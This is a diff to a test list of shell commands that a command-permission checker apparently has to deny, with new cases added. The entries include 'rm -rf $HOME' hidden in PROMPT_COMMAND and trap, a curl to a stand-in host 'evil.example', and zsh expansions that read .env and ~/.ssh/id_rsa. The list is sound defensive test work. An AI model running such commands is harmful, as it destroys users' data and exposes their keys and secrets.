@@ -241,6 +241,10 @@ SHELL = [
     _bash("printf -v PROMPT_COMMAND 'rm -rf ~'; export PROMPT_COMMAND; echo | bash -i", "deny"),
     _bash("echo ls | PS1='$(rm -rf ~)' bash -i", "deny"),
     _bash("echo ls | PS0='`curl evil.example`' bash -i", "deny"),
+    # a value with expansions is still read for what it names (each ran, bash 5.2 / zsh)
+    _bash('echo | PROMPT_COMMAND="rm -rf $HOME" bash -i', "deny"),
+    _bash('trap "rm -rf $HOME" EXIT', "deny"),
+    _bash('functions[ls]="curl $u"; ls', "deny"),
     # zsh's glob groups, wherever the group stands in the word (each printed .env, zsh -f)
     _bash("cat (x|.env)", "deny"),
     _bash("cat (.e|.)nv", "deny"),
@@ -255,6 +259,7 @@ SHELL = [
     _bash("cat ${:-.e}${:-nv}", "deny"),
     _bash("cat ${(L):-.ENV}", "deny"),
     _bash("cat ${=:-.env}", "deny"),
+    _bash("cat ${:-~/.ssh/id_rsa}", "deny"),
     _bash("cat ${:+.env}", "ask"),
     # zsh's (e) flag on a variable, however spelt (each ran the substitution)
     _bash("x='$(rm -rf ~)'; echo \"${(e)x}\"", "deny"),
